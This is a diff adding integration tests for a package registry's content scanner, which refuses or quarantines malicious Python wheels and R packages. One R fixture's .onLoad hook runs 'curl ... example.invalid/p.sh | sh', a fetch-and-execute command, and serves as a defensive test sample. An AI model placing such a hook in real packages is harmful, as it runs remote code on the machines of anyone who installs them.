@@ -10,7 +10,11 @@ use tempfile::TempDir;
 use crate::support::cmd::{Finished, run};
 use crate::support::env::real_dists;
 use crate::support::fixtures::HandWheel;
+use crate::support::python::{TargetEnv, twine_upload};
 use crate::support::r::{HandTarball, R, RPackage};
+use crate::support::upload::{Auth, Upload};
+use crate::support::upstream::{FakeUpstream, ProxyToml};
+use crate::support::{ServerConfig, TestServer};
 
 fn scan(args: &[&str], files: &[&Path]) -> Finished {
     run(Command::new(env!("CARGO_BIN_EXE_airlock"))
@@ -223,4 +227,205 @@ fn unreadable_files_exit_2_and_the_others_are_still_reported() {
     assert_eq!(value["errors"].as_array().expect("errors").len(), 2);
     let missing = scan(&[], &[&dir.path().join("missing.whl")]);
     assert_eq!(code(&missing), 2, "{missing}");
+}
+
+/// `GET /api/v1/scan/{ecosystem}/{name}/{version}` with `token`: status and JSON.
+fn scans_api(server: &TestServer, token: &str, path: &str) -> (u16, Value) {
+    let response = server
+        .http()
+        .get(server.url(&format!("/api/v1/scan/{path}")))
+        .bearer_auth(token)
+        .send()
+        .expect("GET scan");
+    let status = response.status().as_u16();
+    (status, response.json().unwrap_or(Value::Null))
+}
+
+/// Every upload is scanned before it is stored: a malicious wheel is refused, twine showing the
+/// findings; a clean one is stored with its report, which the API shows; nothing of the refused
+/// one is kept.
+#[test]
+fn uploads_are_scanned_and_a_malicious_one_is_refused_with_its_findings() {
+    let server = TestServer::start();
+    let dir = TempDir::new().expect("temp dir");
+    let evil = malicious_wheel(dir.path());
+    let refused = twine_upload(&server, server.publisher_token(), &[&evil], &[]).failure();
+    let output = format!("{}{}", refused.stdout, refused.stderr);
+    assert!(output.contains("400"), "{refused}");
+    assert!(output.contains("refused by the content scan"), "{refused}");
+    assert!(
+        output.contains("py-pth-exec"),
+        "the finding's rule is named: {refused}"
+    );
+    let reader = server.token("scan-reader", "reader");
+    let (status, _) = scans_api(&server, &reader, "pypi/tidy-helpers/1.0");
+    assert_eq!(status, 404, "nothing of the refused upload is kept");
+    assert_eq!(server.database().count_rows("scans"), 0);
+
+    let clean = HandWheel::new("plain-tools", "2.0")
+        .member(
+            "plain_tools/__init__.py",
+            "def add(a, b):\n    return a + b\n",
+        )
+        .write(dir.path());
+    twine_upload(&server, server.publisher_token(), &[&clean], &[]).success();
+    let (status, body) = scans_api(&server, &reader, "pypi/Plain_Tools/2.0");
+    assert_eq!(status, 200, "{body}");
+    let file = &body["files"][0];
+    assert_eq!(file["filename"], "plain_tools-2.0-py3-none-any.whl");
+    assert_eq!(file["source"], "internal-pypi");
+    let scan = &file["scans"][0];
+    assert_eq!(scan["findings"], serde_json::json!([]), "{body}");
+    assert_eq!(scan["score"], 0);
+    assert!(scan["scanner"].as_str().is_some_and(|v| !v.is_empty()));
+    assert!(scan["scanned_at"].as_str().is_some(), "{body}");
+
+    let (status, _) = server
+        .http()
+        .get(server.url("/api/v1/scan/pypi/plain-tools/2.0"))
+        .send()
+        .map(|r| (r.status().as_u16(), ()))
+        .expect("GET");
+    assert_eq!(status, 401, "scan results need a token");
+}
+
+/// An R package whose `.onLoad` runs a downloaded script is refused at upload; with
+/// `refuse_uploads_at = "never"` it is stored, and its findings kept for everyone to see.
+#[test]
+fn r_uploads_are_scanned_and_findings_kept_when_only_recorded() {
+    let dir = TempDir::new().expect("temp dir");
+    let tarball = HandTarball::new("phonehome", "1.0")
+        .member(
+            "phonehome/R/zzz.R",
+            ".onLoad <- function(libname, pkgname) {\n  system('curl -s https://example.invalid/p.sh | sh')\n}\n",
+        )
+        .write(dir.path());
+    let upload = |server: &TestServer| {
+        Upload::file(&tarball).try_send_to(
+            server.http(),
+            &server.url("/upload/internal-cran/"),
+            Auth::Basic(server.publisher_token()),
+        )
+    };
+    let strict = TestServer::start();
+    let reply = upload(&strict).expect("upload");
+    assert_eq!(reply.status, 400, "{reply:?}");
+    assert!(reply.body.contains("r-onload-system"), "{reply:?}");
+
+    let recording = TestServer::builder()
+        .config(ServerConfig::from_toml(
+            "[scan]\nrefuse_uploads_at = \"never\"\n".to_string() + DEFAULT_SOURCES_AND_LANES,
+        ))
+        .start();
+    let reply = upload(&recording).expect("upload");
+    assert!((200..300).contains(&reply.status), "{reply:?}");
+    let reader = recording.token("scan-reader", "reader");
+    let (status, body) = scans_api(&recording, &reader, "cran/phonehome/1.0");
+    assert_eq!(status, 200, "{body}");
+    let rules: Vec<&str> = body["files"][0]["scans"][0]["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .filter_map(|f| f["rule"].as_str())
+        .collect();
+    assert!(rules.contains(&"r-onload-system"), "{body}");
+    assert!(rules.contains(&"r-download-exec"), "{body}");
+    assert_eq!(body["files"][0]["scans"][0]["worst"], "critical", "{body}");
+}
+
+const DEFAULT_SOURCES_AND_LANES: &str = r#"
+[[source]]
+name = "internal-pypi"
+kind = "hosted"
+ecosystem = "pypi"
+
+[[source]]
+name = "internal-cran"
+kind = "hosted"
+ecosystem = "cran"
+
+[[lane]]
+name = "dev"
+mode = "open"
+sources = ["internal-pypi", "internal-cran"]
+"#;
+
+/// A lane with `scan = { block_at = "high" }` quarantines what its proxies fetch: a proxied file
+/// is fetched and scanned whole before its first byte is served. A malicious wheel is refused
+/// (pip sees 403 with the findings), and from then on the lane's page lists no file of it; a
+/// clean one installs. A lane without a scan policy serves what it is asked for, and the scan
+/// is there for everyone to see.
+#[test]
+fn proxied_files_are_quarantined_until_scanned_and_malicious_ones_refused() {
+    let upstream = FakeUpstream::start();
+    let dir = TempDir::new().expect("temp dir");
+    let evil = malicious_wheel(dir.path());
+    let clean = HandWheel::new("plain-tools", "2.0")
+        .member(
+            "plain_tools/__init__.py",
+            "def add(a, b):\n    return a + b\n",
+        )
+        .write(dir.path());
+    upstream.add(&evil);
+    upstream.add(&clean);
+    let config = ProxyToml::new()
+        .proxy("pypi", &upstream, "")
+        .lane_with(
+            "dev",
+            &["internal-pypi", "pypi"],
+            "scan = { block_at = \"high\" }",
+        )
+        .lane("raw", &["pypi"])
+        .config();
+    let server = TestServer::builder().config(config).start();
+    let dev = server.url("/dev/pypi/simple/");
+
+    let target = TargetEnv::new();
+    let refused = target.pip_install(&dev, &["tidy-helpers==1.0"]).failure();
+    let output = format!("{}{}", refused.stdout, refused.stderr);
+    assert!(output.contains("403"), "{refused}");
+    assert_eq!(
+        upstream.file_requests("tidy_helpers-1.0-py3-none-any.whl"),
+        1
+    );
+    let page = server
+        .http()
+        .get(server.url("/dev/pypi/simple/tidy-helpers/"))
+        .send()
+        .expect("page");
+    assert_eq!(
+        page.status().as_u16(),
+        404,
+        "the scanned file is no longer listed"
+    );
+    let text = page.text().expect("body");
+    assert!(text.contains("the content scan found"), "{text}");
+    let direct = server
+        .http()
+        .get(server.url("/dev/pypi/files/_/tidy_helpers-1.0-py3-none-any.whl"))
+        .send()
+        .expect("GET");
+    assert_eq!(direct.status().as_u16(), 403);
+    let why = direct.text().expect("body");
+    assert!(why.contains("py-pth-exec"), "{why}");
+    assert!(why.contains("the content scan found"), "{why}");
+
+    target.pip_install(&dev, &["plain-tools==2.0"]).success();
+
+    // The lane without a scan policy serves it; the upstream is not asked again.
+    let raw = server
+        .http()
+        .get(server.url("/raw/pypi/files/_/tidy_helpers-1.0-py3-none-any.whl"))
+        .send()
+        .expect("GET");
+    assert_eq!(raw.status().as_u16(), 200);
+    assert_eq!(
+        upstream.file_requests("tidy_helpers-1.0-py3-none-any.whl"),
+        1
+    );
+    let reader = server.token("scan-reader", "reader");
+    let (status, body) = scans_api(&server, &reader, "pypi/tidy-helpers/1.0");
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["files"][0]["source"], "pypi");
+    assert_eq!(body["files"][0]["scans"][0]["worst"], "critical", "{body}");
 }
